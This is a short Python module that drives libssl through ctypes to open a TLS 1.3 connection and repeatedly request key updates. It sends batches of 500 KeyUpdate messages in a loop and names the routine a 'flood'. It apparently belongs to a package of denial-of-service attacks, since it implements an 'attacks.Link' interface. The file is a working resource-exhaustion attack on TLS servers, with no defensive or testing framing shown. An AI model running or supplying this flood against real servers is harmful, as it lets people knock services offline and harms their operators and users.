"""A TLS 1.3 connection that does nothing but change its key: by libssl, since Python's ssl can't."""

import ctypes

_UPDATE_REQUESTED = 1
_CTRL_MODE = 33
_ALPN = b'\x02h2'
_AT_ONCE = 500

_ssl = ctypes.CDLL('libssl.so.3')
for _name in ('TLS_client_method', 'SSL_CTX_new', 'SSL_new'):
    getattr(_ssl, _name).restype = ctypes.c_void_p


class KeyUpdates:
    """A connection, with the interface of attacks.Link as far as a flood needs it."""

    last_word = None

    def __init__(self, connected):
        self._socket = connected
        self._socket.settimeout(None)
        context = ctypes.c_void_p(_ssl.SSL_CTX_new(ctypes.c_void_p(_ssl.TLS_client_method())))
        self._ssl = ctypes.c_void_p(_ssl.SSL_new(context))
        _ssl.SSL_CTX_free(context)
        _ssl.SSL_set_alpn_protos(self._ssl, _ALPN, len(_ALPN))
        _ssl.SSL_set_fd(self._ssl, self._socket.fileno())
        if _ssl.SSL_connect(self._ssl) != 1:
            self.close()
            raise ConnectionError('no TLS')

    def flood(self, over):
        while not over():
            for _ in range(_AT_ONCE):
                if _ssl.SSL_key_update(self._ssl, _UPDATE_REQUESTED) != 1:
                    raise ConnectionError('no key update')
                if _ssl.SSL_do_handshake(self._ssl) != 1:
                    raise ConnectionResetError('cut off')
            yield _AT_ONCE * 28

    @staticmethod
    def finish():
        pass

    def close(self):
        if self._ssl:
            _ssl.SSL_free(self._ssl)
            self._ssl = None
        self._socket.close()
